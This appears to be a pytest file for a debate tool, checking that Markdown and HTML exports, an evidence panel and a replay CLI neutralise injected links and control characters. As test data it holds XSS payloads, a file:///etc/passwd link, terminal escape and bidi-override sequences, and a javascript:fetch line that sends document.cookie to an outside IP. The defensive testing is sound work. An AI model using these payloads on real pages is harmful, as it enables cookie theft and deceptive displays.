"""Links and control characters from elsewhere, at the sinks that had let them through: a `javascript:`
link in a Markdown export (rendered by a real Markdown library), provenance fields (title, site, authors,
venue) in the HTML export and the evidence panel, and bidirectional controls in `debate replay`'s
terminal output (the real CLI)."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import markdown
import pytest

from debate.retrieval import provenance
from debate.sanitize import md_text
from debate.sharing.html import to_html
from debate.store.debates import to_markdown

REPO = Path(__file__).resolve().parents[2]
CONTROLS = "\x1b]0;pwned\x07\x1b[2J\x9b31m\x85"
RLO = "\u202e"


@pytest.mark.parametrize(
    "text",
    [
        "[j](javascript:alert(1))",
        "[j]( JaVaScRiPt:alert(1))",
        "[j](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[j](file:///etc/passwd)",
        "[j][r]\n\n[r]: javascript:alert(1)",
        "[j](<javascript:alert(1)>)",
    ],
)
def test_links_to_anything_but_http_are_text_in_markdown(text):
    rendered = markdown.markdown(md_text(text))
    assert "<a " not in rendered, rendered


def test_http_links_stay_links_and_text_reads_the_same():
    rendered = markdown.markdown(md_text("see [the study](https://example.org/a) and [E1](not a link)"))
    assert rendered.count("<a ") == 1 and 'href="https://example.org/a"' in rendered
    assert "[E1](not a link)" in rendered  # shown as written


def test_a_javascript_link_in_a_turn_is_text_in_the_markdown_export():
    events = [
        {"type": "debate_started", "seq": 0, "debate_id": "d1", "protocol": "single", "task": "checkthat"},
        {
            "type": "turn_finished",
            "seq": 1,
            "agent": "m1",
            "text": "Read [the source](javascript:fetch('//198.51.100.7/'+document.cookie)) first.",
        },
        {"type": "finished", "seq": 2, "status": "completed"},
    ]
    row = {"id": "d1", "protocol": "single", "task": "checkthat", "claim": "[c](javascript:alert(1))"}
    rendered = markdown.markdown(to_markdown(row, events))
    assert "javascript:" in rendered and "<a " not in rendered, rendered


def _passage() -> dict:
    return {
        "id": "E1",
        "text": "A passage.",
        "score": 0.9,
        "origin": "scholar",
        "source": "scholar",
        "url": "https://example.org/paper",
        "title": f"Title{CONTROLS} gpj.{RLO}exe",
        "site": f"Site{CONTROLS}{RLO}",
        "authors": f"A. Author{CONTROLS}{RLO}",
        "venue": f"Venue{RLO}{CONTROLS}",
        "date": "2024-01-01",
    }


def _clean(html: str) -> None:
    for ch in "\x1b\x07\x9b\x85" + RLO:
        assert ch not in html, repr(ch)
    assert "[U+202E]" in html


def test_provenance_fields_are_cleaned_in_the_evidence_panel():
    p = _passage()
    line = provenance.provenance_html(p)
    _clean(line)
    assert "Title" in line and "A. Author" in line
    p["site"] = ""  # the venue stands in for the site
    _clean(provenance.provenance_html(p))


def test_provenance_fields_are_cleaned_in_the_html_export():
    events = [
        {"type": "debate_started", "seq": 0, "debate_id": "d1", "protocol": "single", "task": "checkthat"},
        {"type": "evidence", "seq": 1, "query": "q", "passages": [_passage()]},
        {"type": "finished", "seq": 2, "status": "completed"},
    ]
    page = to_html(events, title="d1")
    _clean(page[page.index('id="evidence"') :])


def test_debate_replay_shows_bidi_controls_instead_of_obeying_them(tmp_path):
    events = tmp_path / "events.jsonl"
    lines = [
        {"type": "debate_started", "seq": 0, "debate_id": "d1", "protocol": "single", "task": "checkthat"},
        {"type": "turn_finished", "seq": 1, "agent": "m1", "text": f"The verdict is {RLO}EURT{CONTROLS} indeed."},
        {"type": "finished", "seq": 2, "status": "completed"},
    ]
    events.write_text("\n".join(json.dumps(e) for e in lines) + "\n", encoding="utf-8")
    out = subprocess.run(
        [sys.executable, "-m", "debate", "replay", str(events), "--color", "never"],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert out.returncode == 0, out.stderr
    assert "[U+202E]EURT" in out.stdout
    for ch in RLO + "\x1b\x07\x9b\x85":
        assert ch not in out.stdout, repr(ch)
